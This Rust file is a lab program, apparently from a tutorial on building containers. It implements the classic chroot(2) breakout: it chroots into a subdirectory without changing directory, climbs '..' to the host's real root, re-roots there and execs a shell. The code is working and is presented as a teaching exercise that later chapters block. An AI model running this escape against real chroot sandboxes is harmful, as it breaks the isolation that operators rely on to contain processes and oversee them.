//! lab-breakout: the classic escape from chroot(2), for chapter 01.
//!
//! Runs inside a container as root. chroot(2) moves the root but not the
//! working directory, and the kernel only stops `..` at a process's *own*
//! root. So: chroot into a subdirectory without chdir, and the working
//! directory is now outside the new root; `..` climbs freely from there up
//! to the real `/`, and chroot(".") makes that the root again. The chroot(2)
//! man page warns about exactly this. From ch02 on it must fail.
//!
//! Usage: lab-breakout [COMMAND [ARG]...]   (default COMMAND: /bin/sh)

use nix::sys::stat::{Mode, stat};
use nix::unistd::{chdir, chroot, execv, mkdir};
use std::ffi::CString;

fn main() {
    let mut argv: Vec<CString> = std::env::args()
        .skip(1)
        .map(|arg| CString::new(arg).expect("arguments come from the kernel without NUL"))
        .collect();
    if argv.is_empty() {
        argv.push(c"/bin/sh".to_owned());
    }
    match escape() {
        Ok(()) => {
            let error = execv(&argv[0], &argv).unwrap_err();
            say(&format!(
                "execve {:?}: {}",
                argv[0],
                error.desc().to_lowercase()
            ));
            std::process::exit(127);
        }
        Err((step, errno)) => {
            say(&format!(
                "blocked: {step} failed: {} ({errno:?})",
                errno.desc().to_lowercase()
            ));
            std::process::exit(1);
        }
    }
}

// ANCHOR: breakout
/// Leave the current root, or say which step the kernel refused.
fn escape() -> Result<(), (&'static str, nix::errno::Errno)> {
    const TRAPDOOR: &str = ".lab-breakout";
    // 1. A directory inside our root to chroot into.
    match mkdir(TRAPDOOR, Mode::from_bits_truncate(0o700)) {
        Ok(()) | Err(nix::errno::Errno::EEXIST) => {}
        Err(errno) => return Err(("mkdir", errno)),
    }
    say("mkdir(\".lab-breakout\")");
    // 2. chroot into it *without* chdir: our working directory is now
    //    outside our root, where the kernel's `..` check never looks.
    chroot(TRAPDOOR).map_err(|e| ("chroot(\".lab-breakout\")", e))?;
    say("chroot(\".lab-breakout\"), no chdir: the working directory is now outside the root");
    // The trapdoor is our root now but still a name in the old tree:
    // remove it so we leave nothing behind.
    let _ = std::fs::remove_dir(TRAPDOOR);
    // 3. Climb: `..` of the real `/` is `/` itself, so stop when `.` and
    //    `..` are the same directory.
    loop {
        let here = stat(".").map_err(|e| ("stat(\".\")", e))?;
        let parent = stat("..").map_err(|e| ("stat(\"..\")", e))?;
        if (here.st_dev, here.st_ino) == (parent.st_dev, parent.st_ino) {
            break;
        }
        chdir("..").map_err(|e| ("chdir(\"..\")", e))?;
    }
    say("chdir(\"..\") until \".\" is its own parent: that is the host's /");
    // 4. Make the real `/` our root again.
    chroot(".").map_err(|e| ("chroot(\".\")", e))?;
    chdir("/").map_err(|e| ("chdir(\"/\")", e))?;
    say("chroot(\".\"): the host's / is our root again");
    Ok(())
}
// ANCHOR_END: breakout

fn say(line: &str) {
    eprintln!("lab-breakout: {line}");
}
